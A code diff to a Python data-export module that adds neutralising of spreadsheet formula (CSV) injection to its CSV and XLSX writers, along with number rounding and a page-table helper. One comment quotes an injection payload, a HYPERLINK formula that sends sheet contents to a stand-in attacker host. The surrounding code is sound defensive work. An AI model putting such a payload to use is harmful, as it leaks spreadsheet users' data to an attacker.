@@ -11,6 +11,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 import tempfile
 from collections.abc import Iterable, Iterator
 
@@ -88,6 +89,21 @@ def displayed(frame: pd.DataFrame, lang: str) -> pd.DataFrame:
     return out
 
 
+def page_table(columns: Iterable[tuple[str, str | None, Iterable]], lang: str) -> pd.DataFrame:
+    """A page's own export (beyond one query, e.g. the whale curve): (label, format, values) per
+    column, text when the format is None; headers with their unit, numbers as the writers write them."""
+    out, formats = {}, {}
+    for label, fmt, values in columns:
+        if fmt is None:
+            out[label] = list(values)
+            continue
+        header = with_unit(label, fmt, lang)
+        out[header], formats[header] = _rounded(pd.Series(list(values), dtype="float64"), fmt), fmt
+    frame = pd.DataFrame(out)
+    frame.attrs["formats"] = formats
+    return frame
+
+
 def pivot_displayed(wide: pd.DataFrame, spec: QuerySpec, lang: str) -> pd.DataFrame:
     """A pivot as shown: row labels, then one column per (column members, measure): '寿险 / 保费收入（元）'."""
     cube = cube_by_name(spec.cube)
@@ -106,11 +122,36 @@ def pivot_displayed(wide: pd.DataFrame, spec: QuerySpec, lang: str) -> pd.DataFr
 
 
 # --- CSV ------------------------------------------------------------------------------------------------
+# --- text a spreadsheet would run as a formula (CSV injection) ----------------------------------------------
+# A cell starting with one of these is read as a formula by Excel, LibreOffice and Google Sheets, quoted
+# in the CSV or not (=HYPERLINK("http://evil.example/?leak="&A1) sends the sheet away). As OWASP advises,
+# such text gets a single quote in front, which makes it text; a number written as text (-12.5) stays.
+_FORMULA_START = r"[=+\-@\t\r]"
+_PLAIN_NUMBER = r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?"
+_FORMULA_RE, _NUMBER_RE = re.compile(_FORMULA_START), re.compile(_PLAIN_NUMBER)
+
+
+def neutralised(text):
+    """One text cell (or header) as it is safe to write: "'=SUM(1+1)" for '=SUM(1+1)'."""
+    if isinstance(text, str) and _FORMULA_RE.match(text) and not _NUMBER_RE.fullmatch(text):
+        return "'" + text
+    return text
+
+
+def _neutralised_text(values: pd.Series) -> pd.Series:
+    """A column's text cells neutralised (numbers, dates and flags are not text, and stay typed)."""
+    if isinstance(values.dtype, pd.StringDtype):  # pandas' own strings: vectorised, for the records' batches
+        risky = (values.str.match(_FORMULA_START) & ~values.str.fullmatch(_PLAIN_NUMBER)).fillna(False)
+        return values.mask(risky.astype(bool), "'" + values)
+    return values.map(neutralised)  # object (or categorical) columns: only their str cells change
+
+
 def csv_chunks(frames: Iterable[pd.DataFrame], first_line: str) -> Iterator[bytes]:
     """The CSV as UTF-8 byte chunks: BOM and the filters line, then each frame (header once).
-    Arrow's writer, not pandas': a million records are written in 0.3 s instead of 3 s. It quotes
-    every text cell, which any CSV reader (Excel included) takes as plain text."""
-    yield (BOM + _csv_row([first_line])).encode("utf-8")
+    Arrow's writer, not pandas': a million records are written in 0.3 s instead of 3 s. Quoting a
+    cell does not keep a spreadsheet from running it as a formula: text cells and headers are
+    neutralised first (`neutralised`)."""
+    yield (BOM + _csv_row([neutralised(first_line)])).encode("utf-8")
     header = True
     for frame in frames:
         buffer = io.BytesIO()
@@ -122,7 +163,9 @@ def csv_chunks(frames: Iterable[pd.DataFrame], first_line: str) -> Iterator[byte
 
 def _as_written(frame: pd.DataFrame) -> pd.DataFrame:
     """Dates and flags as a person reads them (2026-01-31, True), as pandas wrote them; Arrow would
-    write times of day and true/false. A rate is written in percent, as its header says (85.3421)."""
+    write times of day and true/false. A rate is written in percent, as its header says (85.3421);
+    other numbers of a known format to the decimals a reader needs (money to the fen).
+    Text that a spreadsheet would run as a formula is neutralised, headers too."""
     formats = frame.attrs.get("formats", {})
     out = {}
     for name, values in frame.items():
@@ -134,9 +177,15 @@ def _as_written(frame: pd.DataFrame) -> pd.DataFrame:
             out[name] = values.dt.strftime("%Y-%m-%d" if only_dates else "%Y-%m-%d %H:%M:%S")
         elif pd.api.types.is_bool_dtype(values):
             out[name] = values.map({True: "True", False: "False"})
-        else:
+        elif pd.api.types.is_numeric_dtype(values) and formats.get(name) in DECIMALS:
+            out[name] = _rounded(values, formats[name])  # records' sums carry float noise (370196.66000000003)
+        elif pd.api.types.is_numeric_dtype(values):
             out[name] = values
-    return pd.DataFrame(out, index=frame.index)
+        else:
+            out[name] = _neutralised_text(values)
+    written = pd.DataFrame(out, index=frame.index)
+    written.columns = [neutralised(str(name)) for name in written.columns]
+    return written
 
 
 def _csv_row(values: list[str]) -> str:
@@ -171,14 +220,14 @@ def xlsx_file(frames: Iterable[pd.DataFrame], first_line: str, sheet: str):
     styles = {fmt: book.add_format({"num_format": code}) for fmt, code in EXCEL_FORMATS.items()}
     bold = book.add_format({"bold": True, "bottom": 1, "text_wrap": True, "valign": "top"})
     ws = book.add_worksheet(sheet[:31])
-    ws.write_string(0, 0, first_line)
+    ws.write_string(0, 0, neutralised(first_line))
     row, columns = 2, None
     for frame in frames:
         if columns is None:
             columns = list(frame.columns)
             for col, name in enumerate(columns):
                 ws.set_column(col, col, min(max(10, _width(name)), 40))
-                ws.write_string(1, col, str(name), bold)
+                ws.write_string(1, col, neutralised(str(name)), bold)
             ws.freeze_panes(2, 0)
             ws._write_single_row(row)  # the header row goes to the row file; data rows follow it
         if not len(frame):
@@ -207,7 +256,9 @@ _CONTROL = r"[\x00-\x08\x0b\x0c\x0e-\x1f]"  # not allowed in XML: dropped
 def _rows_xml(frame: pd.DataFrame, first_row: int, styles: dict) -> str:
     """The <row> elements XlsxWriter writes for `frame` from 0-based row `first_row`: numbers as
     <v> with the column's style (`styles`: column -> Format or None), dates (text or datetimes in a
-    column styled as dates) as Excel day numbers, text as inline strings, blanks left out."""
+    column styled as dates) as Excel day numbers, text as inline strings (neutralised, as in the CSV:
+    Excel keeps a typed string as text, but editing the cell or saving the sheet as CSV would run it),
+    blanks left out."""
     numbers = pd.Series(range(first_row + 1, first_row + 1 + len(frame)), index=frame.index).astype(str)
     xml = '<row r="' + numbers + '">'
     for col, (name, values) in enumerate(frame.items()):
@@ -225,9 +276,9 @@ def _rows_xml(frame: pd.DataFrame, first_row: int, styles: dict) -> str:
             shown = number.notna() & number.abs().ne(float("inf"))
             cell = at + "><v>" + _number_text(number) + "</v></c>"
         else:
-            text = values.astype("string")
+            text = _neutralised_text(values.astype("string").str.replace(_CONTROL, "", regex=True))
             shown = text.notna()
-            text = (text.str.replace(_CONTROL, "", regex=True).str.replace("&", "&amp;", regex=False)
+            text = (text.str.replace("&", "&amp;", regex=False)
                     .str.replace("<", "&lt;", regex=False).str.replace(">", "&gt;", regex=False))
             cell = at + ' t="inlineStr"><is><t xml:space="preserve">' + text + "</t></is></c>"
         xml = xml + cell.where(shown, "").astype(object)
